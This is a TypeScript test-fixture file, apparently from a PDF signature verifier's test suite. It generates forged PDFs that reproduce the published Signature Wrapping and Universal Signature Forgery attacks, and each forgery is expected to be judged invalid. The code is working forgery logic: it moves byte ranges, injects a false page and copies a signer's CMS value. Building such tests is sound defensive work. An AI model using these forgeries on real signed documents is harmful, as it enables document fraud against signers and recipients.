/**
 * Signature Wrapping (SWA) and Universal Signature Forgery (USF). Mladenov, Mainka, Meyer zu
 * Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund – How To Spoof PDF Signatures", ACM CCS 2019,
 * §4.1 (USF) and §4.3 (SWA).
 *
 * SWA, what we learned. The signed content is the concatenation of the two /ByteRange parts, so it does
 * not change if the second part is *moved*: the attacker keeps part 1 (up to the `<` of /Contents),
 * widens the excluded gap, fills it with the original signature value followed by malicious objects
 * (a new page, a copy of the signature dictionary whose /ByteRange names the moved second part), then
 * the untouched part 2, then a cross-reference update that points the page and the signature at the
 * copies in the gap. The digest over the two parts is the original one, so the CMS verifies. Viewers
 * fell for it because they checked only "the ranges start at 0 and end at the end of the file" and the
 * digest. The defence: the gap must be exactly the signature dictionary's own /Contents hex string, the
 * dictionary must be the one the signed revision's cross-reference locates, and the ranges must end
 * where that revision ends. Expected INVALID: the signature the current document shows has a
 * /ByteRange whose gap is not its /Contents (`byte-range-invalid`), so it verifies nothing; the
 * original dictionary's range no longer holds the signed bytes either (a digest mismatch). Either way
 * no signature on this file verifies as what the viewer shows.
 *
 * USF, what we learned. A viewer that finds a signature dictionary but cannot run the check (no
 * /ByteRange, [0 0 0 0], /Contents empty or null, values of the wrong type) showed the signature panel
 * anyway, with the signer taken from the CMS certificate or /Name, sometimes as valid. The attacker
 * needs no key: Alice's CMS is copied from any report she signed. Here the forged value goes into
 * the report's own prepared author field. Every variant must be INVALID (never VALID, never silently
 * "unsigned": the viewer shows a signature panel).
 */
import type { Genuine } from './genuine';
import { ALICE } from './genuine';
import { FALSE_RECT, FALSE_TEXT, overlayOnPage, rewritten, whiteBoxWithText } from './forge';
import { appendUpdate, bytesOf, concatBytes, dictOf, hexText, latin1, literal, mapDocument, rawBody, readXref, ref, refNum, type ObjectDef } from './pdfWriter';
import { formatPdfDate } from '../../../../shared/signing/pdfDate';

/** Alice's signature dictionary in the certified report: its number, /ByteRange and raw /Contents `<hex>`. */
function aliceSignature(g: Genuine): { readonly sigNum: number; readonly range: readonly [number, number, number, number]; readonly contents: string } {
  const pdf = g.certified;
  const field = mapDocument(pdf).fields.get('Signature1');
  if (field === undefined) throw new Error('no Signature1');
  const sigNum = refNum(dictOf(pdf, field), 'V');
  const match = /\/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]/.exec(rawBody(pdf, sigNum));
  if (!match) throw new Error('no ByteRange');
  const range = [Number(match[1]), Number(match[2]), Number(match[3]), Number(match[4])] as const;
  return { sigNum, range, contents: latin1(pdf.subarray(range[1], range[2])) };
}

/** SWA: part 2 moved after a gap holding the signature value, a new page 1 and a rewrapped signature dictionary. */
export function swaMovedSecondPart(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const { sigNum, range, contents } = aliceSignature(g);
  const [, length, gapEnd, tail] = range;
  const signedXref = readXref(pdf);

  // The gap: the signature value (so the old /Contents still parses), then the malicious bodies, then a
  // comment that ends in '>' (part 2 starts with an end-of-line, which ends the comment).
  let gap = `${contents}\n`;
  const placed = new Map<number, number>();
  const place = (object: ObjectDef): void => {
    placed.set(object.num, length + gap.length);
    const body = typeof object.body === 'string' ? object.body : `<< ${object.body.dict ?? ''} /Length ${String(object.body.data.length)} >>\nstream\n${typeof object.body.data === 'string' ? object.body.data : latin1(object.body.data)}\nendstream`;
    gap += `${String(object.num)} 0 obj\n${body}\nendobj\n`;
  };
  for (const object of overlayOnPage(pdf, whiteBoxWithText(FALSE_RECT, FALSE_TEXT))) place({ ...object, body: typeof object.body === 'string' ? object.body : { ...object.body, compress: false } });
  // The copied dictionary names the moved part 2, whose offset is known only once the gap is complete:
  // a fixed-width placeholder, filled in after.
  const placeholder = 'MOVEDSTART';
  place({ num: sigNum, body: rawBody(pdf, sigNum).replace(/\/ByteRange\s*\[[^\]]*\]/, `/ByteRange [0 ${String(length)} ${placeholder} ${String(tail)}]`) });
  gap += '%>';
  const movedStart = length + gap.length;
  gap = gap.replace(placeholder, String(movedStart).padEnd(placeholder.length, ' '));
  const shift = movedStart - gapEnd;

  const wrapped = concatBytes([pdf.subarray(0, length), bytesOf(gap), pdf.subarray(gapEnd)]);
  // The signed revision's objects that lived in part 2 moved by `shift`; the gap's bodies replace theirs.
  const repoint = [...signedXref.entries]
    .filter(([num, e]) => e.inUse && !placed.has(num) && e.offset >= gapEnd)
    .map(([num, e]) => ({ num, offset: e.offset + shift }));
  for (const [num, offset] of placed) repoint.push({ num, offset });
  return appendUpdate(wrapped, {
    repoint,
    trailer: { prev: signedXref.startxref + shift, root: signedXref.root ?? ref(2), info: signedXref.info, size: Math.max(signedXref.size, ...placed.keys()) + 1 },
  });
}

type UsfVariant = 'no-byterange' | 'byterange-zero' | 'null-values' | 'empty-contents' | 'contents-not-a-string';

/** USF: the false page 1 and a signature field whose value copies Alice's CMS into a dictionary that cannot be checked. */
function usf(g: Genuine, variant: UsfVariant): Uint8Array {
  const { contents, range } = aliceSignature(g);
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const overlay = overlayOnPage(pdf, whiteBoxWithText(FALSE_RECT, FALSE_TEXT));
  const sigNum = map.next + 2;
  const common = `/Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /M ${literal(formatPdfDate(g.times.alice))} /Name ${hexText(ALICE)}`;
  const entries: Record<UsfVariant, string> = {
    'no-byterange': `/Contents ${contents}`,
    'byterange-zero': `/ByteRange [0 0 0 0] /Contents ${contents}`,
    'null-values': '/ByteRange null /Contents null',
    'empty-contents': '/ByteRange [0 /********** /********** /**********] /Contents <>',
    'contents-not-a-string': `/ByteRange [${range.join(' ')}] /Contents 0`,
  };
  // The report's prepared author field (which names Alice's certificate) now holds the forged value.
  const authorField = map.fields.get('Signature1');
  if (authorField === undefined) throw new Error('the report has no prepared author field');
  const objects: ObjectDef[] = [...overlay, { num: sigNum, body: `<< ${common} ${entries[variant]} >>` }, rewritten(pdf, authorField, { V: ref(sigNum) })];
  const out = appendUpdate(pdf, { objects });
  if (variant !== 'empty-contents') return out;
  // The one variant with a well-formed range: it frames the empty `<>` exactly.
  const source = latin1(out);
  const at = source.indexOf('/ByteRange [0 /**********', pdf.length);
  const hole = source.indexOf('<>', at);
  const text = `/ByteRange [0 ${String(hole)} ${String(hole + 2)} ${String(out.length - hole - 2)}]`.padEnd('/ByteRange [0 /********** /********** /**********]'.length, ' ');
  const filled = out.slice();
  filled.set(bytesOf(text), at);
  return filled;
}

export const usfNoByteRange = (g: Genuine): Uint8Array => usf(g, 'no-byterange');
export const usfByteRangeZero = (g: Genuine): Uint8Array => usf(g, 'byterange-zero');
export const usfNullValues = (g: Genuine): Uint8Array => usf(g, 'null-values');
export const usfEmptyContents = (g: Genuine): Uint8Array => usf(g, 'empty-contents');
export const usfContentsNotAString = (g: Genuine): Uint8Array => usf(g, 'contents-not-a-string');
